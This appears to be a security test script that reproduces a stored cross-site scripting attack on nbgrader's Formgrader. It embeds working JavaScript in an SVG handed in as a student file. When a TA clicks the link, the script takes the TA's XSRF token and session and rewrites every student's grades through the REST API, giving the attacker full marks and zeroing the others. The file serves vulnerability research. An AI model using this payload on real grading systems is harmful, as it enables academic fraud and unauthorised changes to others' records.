"""a09 (a06 with an SVG in a subfolder, linked as a figure: an extension blocklist of .html would not be enough):
(a06:) a FILE handed in beside the notebook. nbgrader copies every other file of the hand-in into
autograded/<student>/<assignment>/ (the grader refuses only links, special files, odd names, too many files), and
Formgrader serves that folder at /formgrader/submissions/<submission id>/<path> (SubmissionFilesHandler, tornado's
StaticFileHandler: same origin as Formgrader, text/html for .html, no sandbox). A written answer's relative link
(bleach keeps <a href> without a scheme) from the page /formgrader/submissions/<id>/ resolves right there.
mallory: honest code, W1 "... see [my derivation](figs/derivation.svg)", and derivation.html with a script that uses the
TA's session on every submission through Formgrader's REST API. The grading finishes normally. The TA opens mallory's
page in Formgrader and clicks her link. Controls aaron, zoe."""
import sqlite3, sys, time
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *

JS = """(async()=>{const x=document.cookie.match(/_xsrf=([^;]+)/);const h={'X-XSRFToken':x?decodeURIComponent(x[1]):'','Content-Type':'application/json'};
const subs=await (await fetch('/formgrader/api/submitted_notebooks/ps1_memory/ps1_memory')).json();let n=0;
for(const s of subs){const gs=await (await fetch('/formgrader/api/grades?submission_id='+s.id)).json();
for(const g of gs){g.manual_score=(s.student==='mallory')?g.max_score:0;const r=await fetch('/formgrader/api/grade/'+g.id,{method:'PUT',headers:h,body:JSON.stringify(g)});n+=r.ok?1:0;}}
document.title='PWNED '+n;document.body.innerText='Derivation: memory = 16 bytes x parameters (see the notebook).';})()"""
HTML = '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"><text x="10" y="50">figure</text><script>' + JS.replace("document.body.innerText=", "void ").replace("&", "&amp;").replace("<", "&lt;") + '</script></svg>'
m = honest()
for c in m.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit":
        c.source = "DDP keeps a full replica of weights, gradients and Adam state on every GPU; see [my derivation](figs/derivation.svg)."
d = course("a09")
handin(d, "aaron", honest())
handin(d, "mallory", m, extra={"figs/derivation.svg": HTML})
handin(d, "zoe", honest())
grade(d); scores(d)
print("autograded/mallory:", os.listdir(f"{d}/autograded/mallory/{A}"))
print("feedback/mallory:", os.listdir(f"{d}/feedback/mallory/{A}") if os.path.isdir(f"{d}/feedback/mallory/{A}") else None)
from browser_fg import open_formgrader
def ta(page, url):
    link = page.locator("a", has_text="my derivation")
    print("link href in the TA's page:", link.get_attribute("href"))
    link.click()
    page.wait_for_load_state("load")
    time.sleep(6)
    return {"url": page.url.split('?')[0], "title": page.title()}
print("the TA clicks mallory's link:", open_formgrader(d, "mallory", ta, shot="tests/attacks/round36/user/a09-after-click.png"))
scores(d)
